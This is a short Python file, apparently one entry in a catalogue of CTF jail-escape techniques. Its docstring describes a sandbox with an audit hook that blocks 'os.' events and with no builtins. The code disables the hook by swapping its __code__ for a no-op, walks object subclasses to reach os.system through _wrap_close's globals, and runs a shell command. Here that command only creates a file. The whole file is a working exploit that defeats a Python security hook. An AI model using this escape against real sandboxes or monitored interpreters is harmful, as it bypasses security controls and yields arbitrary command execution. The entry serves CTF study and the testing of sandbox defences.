"""The code of an audit hook is replaced.

Known from: CTF jails with an audit hook
Effect: made
Host: import sys
Host: def hook(event, args):
Host:     if event.startswith("os."): raise RuntimeError("jail")
Host: sys.addaudithook(hook)
Given: hook
Jail: no builtins
"""
hook.__code__ = (lambda event, args: None).__code__
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"](": > made")
